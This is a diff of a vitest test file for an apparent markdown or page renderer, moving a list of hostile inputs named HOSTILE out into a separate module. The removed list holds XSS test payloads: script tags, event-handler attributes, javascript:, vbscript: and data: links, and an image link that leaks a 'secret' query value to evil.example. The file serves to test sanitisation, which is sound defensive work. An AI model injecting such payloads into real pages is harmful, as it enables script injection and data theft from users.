@@ -4,6 +4,7 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { fileURLToPath } from 'node:url';
 import { expect, it } from 'vitest';
+import { HOSTILE } from './hostile.ts';
 import { describePage, openedPage } from './opened-page.ts';
 
 const world = openedPage();
@@ -364,19 +365,3 @@ Some **bold** and $x^2$, for $5 to $10, **重要（注）。**次 and seven.
 x = 1
 \`\`\`
 `;
-
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)',
-  '[d](vbscript:x) [e](//evil.example/x) [f](https://evil.example) <https://evil.example/auto>',
-  '[g](mailto:a@b.example) [http://bank.example](http://evil.example)',
-  '![pixel](https://evil.example/leak.png?q=secret) ![x](javascript:alert(1))',
-  '<svg onload=alert(1)><style>*{display:none}</style>',
-  '$\\href{javascript:alert(1)}{x}$ and $\\url{javascript:alert(1)}$',
-  '```html\n<script>alert(1)</script>\n```',
-  '[ref]: javascript:alert(1)\n\n[ref]',
-  '<a href="https://evil.example" onclick="alert(1)">x</a>',
-  'the end of it',
-];
